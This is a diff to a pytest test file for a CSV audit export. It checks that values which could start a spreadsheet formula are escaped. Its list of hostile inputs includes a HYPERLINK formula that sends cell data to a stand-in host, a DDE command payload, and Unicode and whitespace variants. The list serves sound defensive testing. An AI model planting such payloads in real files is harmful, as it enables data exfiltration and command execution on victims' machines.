@@ -4,13 +4,15 @@ from __future__ import annotations
 
 import csv
 import io
+import unicodedata
 
 import pytest
 
 from seilocal.store.versions import VersionStore, audit_csv
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
-           "\tx", "\r=1"]
+           "\tx", "\r=1",
+           " =1+1", "\n=1+1", "\u00a0=1", "\uff1dHYPERLINK(\"http://evil.example\")", "\uff0b1", "  @SUM(A1)"]
 
 
 @pytest.mark.parametrize("value", HOSTILE)
@@ -23,7 +25,8 @@ def test_values_that_would_start_a_formula_are_written_as_text(store, value):
     names = [r for r in table if r[4] == "patient.name"]
     assert names and names[0][6] == "'" + value
     for row in table[1:]:  # and no cell of any row starts a formula
-        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+        assert not any(unicodedata.normalize("NFKC", cell.lstrip()[:1]) in ("=", "+", "-", "@")
+                       or cell.startswith(("\t", "\r", "\n")) for cell in row if cell), row
 
 
 def test_ordinary_values_are_unchanged(store):
